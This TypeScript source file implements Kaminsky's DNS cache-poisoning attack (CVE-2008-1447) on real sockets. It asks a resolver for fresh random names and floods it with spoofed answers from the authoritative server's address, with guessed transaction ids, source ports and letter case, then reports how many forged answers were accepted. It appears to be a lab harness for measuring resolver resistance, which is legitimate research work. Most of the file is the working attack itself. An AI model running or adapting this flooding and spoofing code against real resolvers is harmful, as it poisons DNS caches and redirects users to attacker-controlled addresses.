/**
 * Kaminsky's loop (CVE-2008-1447) on real sockets: asks the resolver for one new name after another and floods it, from the
 * server's address and port, with answers that somebody who does not see the questions would guess. The genuine answers come
 * from the same socket a round trip after each question. Takes an Attack as JSON, prints an Outcome.
 */
import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import { SystemClock } from "@stitch/clock";
import { ENDPOINT_BYTES, endpointRecord, openDatagramSocket, type Arrivals, type Replies } from "@stitch/linux-io";
import dnsPacket from "dns-packet";
import {
  ASKS_FROM,
  FORGED,
  GENUINE,
  PORT,
  RESOLVER,
  ROUND_TRIP_MS,
  SERVER,
  ZONE,
  type Attack,
  type Outcome,
} from "./places.ts";

const { sight, seconds, ports } = JSON.parse(process.argv[2] ?? "") as Attack;
/** Questions that are open at a time. */
const OPEN = 8;
/** A question without any reply for so long is over. */
const GIVEN_UP_MS = 8_000;
const BATCH = 64;
const SLOT = 128;

const counts = { guesses: 0, asked: 0, genuine: 0, forged: 0, failed: 0 };
let ended = false;

function answerTo(query: Buffer, data: string): Buffer {
  const { id = 0, questions = [] } = dnsPacket.decode(query);
  const name = questions[0]?.name ?? ".";
  return dnsPacket.encode({
    type: "response",
    id,
    flags: 0x80,
    questions,
    answers: [{ type: "A", name, ttl: 3_600, data }],
  });
}

const socket = await openDatagramSocket({
  local: { address: SERVER, port: PORT },
  clock: new SystemClock(),
  slotSize: 512,
  replySlotSize: 512,
  batchSize: BATCH,
  receiveBuffer: 4 * 2 ** 20,
  onBatch: (arrivals, replies) => asked(arrivals, replies),
  onFailure: (failure) => {
    throw failure;
  },
});

/** The server's part: it knows the questions; the attacker's part below does not look here, unless sighted. */
function asked(arrivals: Arrivals, replies: Replies): void {
  for (let slot = 0; slot < arrivals.count; slot += 1) {
    const at = slot * arrivals.slotSize;
    const query = Buffer.from(arrivals.bytes.slice(at, at + (arrivals.lengths[slot] ?? 0)));
    const peer = arrivals.peers.slice(slot * ENDPOINT_BYTES, (slot + 1) * ENDPOINT_BYTES);
    const local = arrivals.locals.slice(slot * ENDPOINT_BYTES, (slot + 1) * ENDPOINT_BYTES);
    if (sight === "sighted") {
      const forged = answerTo(query, FORGED);
      replies.bytes.set(forged, slot * replies.slotSize);
      replies.lengths[slot] = forged.length;
    }
    setTimeout(() => ended || socket.send(peer, 0, local, 0, answerTo(query, GENUINE)), ROUND_TRIP_MS);
  }
}

const server = createServer((connection) => {
  connection.on("error", () => connection.destroy());
  connection.on("data", (chunk) => {
    const reply = answerTo(Buffer.from(chunk).subarray(2), GENUINE);
    connection.write(Buffer.concat([Buffer.of(reply.length >> 8, reply.length & 255), reply]));
  });
});
await new Promise<void>((resolve) => void server.listen(PORT, SERVER, resolve));

/** Names that are asked for at the moment. */
const open = new Map<string, NodeJS.Timeout>();
const client = createSocket("udp4");
client.on("message", (bytes) => {
  const { questions = [], answers = [] } = dnsPacket.decode(bytes);
  const name = questions[0]?.name ?? "";
  if (!open.has(name)) return;
  const [first] = answers;
  const data = first !== undefined && "data" in first ? first.data : undefined;
  over(name, data === FORGED ? "forged" : data === GENUINE ? "genuine" : "failed");
});
await new Promise<void>((resolve) => void client.connect(PORT, RESOLVER, () => resolve()));

function over(name: string, what: "genuine" | "forged" | "failed"): void {
  clearTimeout(open.get(name));
  open.delete(name);
  counts[what] += 1;
  if (!ended) ask();
}

function ask(): void {
  const name = `${counts.asked}.${ZONE}`;
  counts.asked += 1;
  open.set(
    name,
    setTimeout(() => over(name, "failed"), GIVEN_UP_MS),
  );
  client.send(
    dnsPacket.encode({ type: "query", id: counts.asked & 0xffff, flags: 0x100, questions: [{ type: "A", name }] }),
  );
}

const slab = {
  slotSize: SLOT,
  bytes: Buffer.alloc(BATCH * SLOT),
  lengths: new Int32Array(BATCH),
  peers: new Uint8Array(BATCH * ENDPOINT_BYTES),
};
const [from, to] = ports;
const target = endpointRecord({ address: ASKS_FROM, port: from }) ?? new Uint8Array(ENDPOINT_BYTES);
const portAt = Buffer.from(endpointRecord({ address: ASKS_FROM, port: 0xabcd }) ?? []).indexOf(Buffer.of(0xab, 0xcd));
const below = (most: number): number => Math.floor(Math.random() * most);

/** One guess: a name that is asked for, an id, a port, the case of every letter. */
function guess(slot: number, name: string): void {
  const at = slot * SLOT;
  const spelled = [...name].map((letter) => (Math.random() < 0.5 ? letter.toUpperCase() : letter)).join("");
  const message = answerTo(
    dnsPacket.encode({ type: "query", id: below(65_536), questions: [{ type: "A", name: spelled }] }),
    FORGED,
  );
  slab.bytes.set(message, at);
  slab.lengths[slot] = message.length;
  const port = from + below(to - from + 1);
  slab.peers.set(target, slot * ENDPOINT_BYTES);
  slab.peers[slot * ENDPOINT_BYTES + portAt] = port >> 8;
  slab.peers[slot * ENDPOINT_BYTES + portAt + 1] = port & 255;
}

/** A full slab for the names of the moment, sent again and again with other ids and ports: that is what a fast attacker does. */
function flood(): void {
  if (ended) return;
  const names = [...open.keys()];
  for (let slot = 0; slot < BATCH; slot += 1) guess(slot, names[slot % names.length] ?? ZONE);
  for (let round = 0; round < 8; round += 1) {
    for (let slot = 0; slot < BATCH; slot += 1) {
      slab.bytes.writeUInt16BE(below(65_536), slot * SLOT);
      const port = from + below(to - from + 1);
      slab.peers[slot * ENDPOINT_BYTES + portAt] = port >> 8;
      slab.peers[slot * ENDPOINT_BYTES + portAt + 1] = port & 255;
    }
    counts.guesses += socket.sendMany(slab, BATCH);
  }
  setImmediate(flood);
}

const began = performance.now();
for (let i = 0; i < OPEN; i += 1) ask();
if (sight === "blind") flood();
await new Promise((resolve) => setTimeout(resolve, seconds * 1_000));
const outcome: Outcome = { seconds: (performance.now() - began) / 1_000, ...counts };
ended = true;
process.stdout.write(`${JSON.stringify(outcome)}\n`, () => process.exit(0));
